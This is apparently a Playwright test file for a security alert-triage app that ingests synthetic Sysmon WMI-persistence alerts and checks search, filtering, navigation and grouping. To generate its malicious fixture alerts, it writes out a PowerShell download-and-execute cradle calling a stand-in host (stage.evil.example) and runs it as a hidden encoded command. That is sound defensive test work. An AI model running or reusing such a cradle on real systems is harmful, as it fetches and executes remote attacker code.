import fs from "node:fs";
import path from "node:path";
import { expect, test } from "@playwright/test";
import { sysmon20Doc, sysmon21Doc } from "../../lib/triage/testing/sysmon-docs";
import { loginAs } from "../helpers/auth";

const atomic = path.resolve(
  process.cwd(),
  "../shared/datasets/evtx-attack-samples/derived-xml/PanacheSysmon_vs_AtomicRedTeam01.evtx.xml",
);
const PAYLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://stage.evil.example/b.ps1')";
const ENCODED = Buffer.from(PAYLOAD, "utf16le").toString("base64");

/** An ECS file with dozens of alerts across hosts: SCCM-like benign consumers and encoded-PowerShell malicious ones. */
function ecsFile(run: string): string {
  const docs: object[] = [];
  const at = (i: number, s = 0) => new Date(Date.UTC(2031, 1, 3, 8, i, s)).toISOString();
  for (let i = 0; i < 30; i++) {
    const host = `${run}-${i % 3 === 0 ? "SRV" : "ws"}${i % 5}`;
    const evil = i % 4 === 0;
    const consumer = evil ? `Updater${i}` : `SCCM-Health-${i}`;
    const destination = evil
      ? `powershell.exe -NoP -W Hidden -EncodedCommand ${ENCODED}`
      : "C:\\Windows\\CCM\\CcmEval.exe /evaluate";
    docs.push(sysmon20Doc({ host, consumer, at: at(i), destination }));
    docs.push(sysmon21Doc({ host, consumer, at: at(i, 30), user: { name: "SYSTEM", domain: "NT AUTHORITY" } }));
  }
  // one consumer with a 20,000-character name
  docs.push(sysmon21Doc({ host: `${run}-ws9`, consumer: "Z".repeat(20_000), at: at(40), user: { name: "mallory" } }));
  return docs.map((d) => JSON.stringify(d)).join("\n");
}

test("an analyst searches by payload text, walks a wildcard filter with ], and follows a group link of a huge consumer name", async ({
  page,
}) => {
  const run = `loop${Date.now().toString(36)}`;
  await loginAs(page, "analyst");
  const ingest = await page.request.post(`/api/ingest?filename=${run}.ndjson`, { data: ecsFile(run) });
  expect(ingest.ok()).toBe(true);
  expect((await ingest.json()).alerts).toBe(31);

  // search by text that exists only inside the decoded -EncodedCommand
  await page.goto(`/alerts?host=${run}-*&q=${encodeURIComponent("stage.evil.example/b.ps1")}`);
  await expect(page.getByTestId("alerts-total")).toHaveText("8 alert(s)");
  await page.screenshot({ path: "/tmp/h17-payload-search.png", fullPage: true });

  // a KQL-like wildcard filter typed in lower case, sorted by consumer; ] walks it in table order
  await page.goto(`/alerts?consumer=sccm-health-*&host=${run.toUpperCase()}-*&sort=consumer&dir=asc`);
  await expect(page.getByTestId("alerts-total")).toHaveText("22 alert(s)");
  const rows = page.getByTestId("alert-row");
  const firstThree = await Promise.all([0, 1, 2].map((i) => rows.nth(i).innerText()));
  await rows.first().locator('a[href^="/alerts/"]').first().click();
  await expect(page.getByTestId("alert-position")).toHaveText("1 of 22");
  await page.keyboard.press("]");
  await expect(page.getByTestId("alert-position")).toHaveText("2 of 22");
  const second = firstThree[1].match(/SCCM-Health-\d+/)![0];
  await expect(page.locator("main")).toContainText(second);
  await page.keyboard.press("]");
  await expect(page.getByTestId("alert-position")).toHaveText("3 of 22");
  await page.keyboard.press("[");
  await expect(page.getByTestId("alert-position")).toHaveText("2 of 22");
  await page.getByRole("link", { name: "← All alerts" }).click();
  await expect(page.getByTestId("alerts-total")).toHaveText("22 alert(s)");

  // grouped by consumer: the 20,000-character name's link is short and answers 200, showing that one alert
  await page.goto(`/alerts?host=${run}-ws9&group=consumer`);
  const group = page.getByRole("region", { name: "Alerts by consumer" }).getByTestId("alert-group").first();
  await group.locator("summary").click();
  const link = group.getByRole("link", { name: /in the table/ });
  const href = (await link.getAttribute("href"))!;
  expect(href.length).toBeLessThan(300);
  expect(href).toContain("consumer=sha256%3A");
  const response = await page.request.get(href);
  expect(response.status()).toBe(200);
  await link.click();
  await expect(page.getByTestId("alerts-total")).toHaveText("1 alert(s)");
});

test("the Atomic Red Team alert: ranked related processes, checks that agree with the timeline, the user found", async ({
  page,
}) => {
  await loginAs(page, "analyst");
  const upload = await page.request.post("/api/ingest?filename=atomic.xml", { data: fs.readFileSync(atomic) });
  expect(upload.ok()).toBe(true);
  await page.goto(`/alerts?consumer=atomicredteam-wmipersistence-*&status=open,acknowledged,closed`);
  await page.getByTestId("alert-row").first().locator('a[href^="/alerts/"]').first().click();

  // step 1: the user Elastic moved to user.name is found, not "missing"
  const step1 = page.getByTestId("step-investigation.sysmon-21-fields");
  await expect(step1).toContainText("MSEDGEWIN10\\IEUser");
  // related processes: nearest the 19/20/21 events first, with their distance; WMI tooling tagged
  const related = page.getByTestId("step-investigation.related-activity");
  await expect(
    related
      .locator("dt")
      .filter({ hasText: /\d ms (after|before) Sysmon (19|20|21)/ })
      .first(),
  ).toBeVisible();
  await expect(related.getByTestId("evidence-tag").filter({ hasText: "WMI tooling: certutil" }).first()).toBeAttached();
  // the scheduled-task check sees the SCHTASKS /Create the timeline shows, and says what it read
  const tasks = page.getByTestId("step-fp.scheduled-maintenance");
  await expect(tasks).toContainText(/scheduled task created by command line: SCHTASKS\s+\/Create/);
  await expect(page.getByTestId("check-scope-fp.scheduled-maintenance")).toContainText(
    /Looked at \d+ scheduled-task event\(s\).* on msedgewin10, 2019-07-19 14:42:02Z – 2019-07-19 15:12:02Z/i,
  );
  await related.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "/tmp/h17-related-light.png" });
  await tasks.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "/tmp/h17-fp-light.png" });
  await page.emulateMedia({ colorScheme: "dark" });
  await related.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "/tmp/h17-related-dark.png" });
  await page.setViewportSize({ width: 390, height: 844 });
  await related.scrollIntoViewIfNeeded();
  await page.screenshot({ path: "/tmp/h17-related-phone.png" });
});
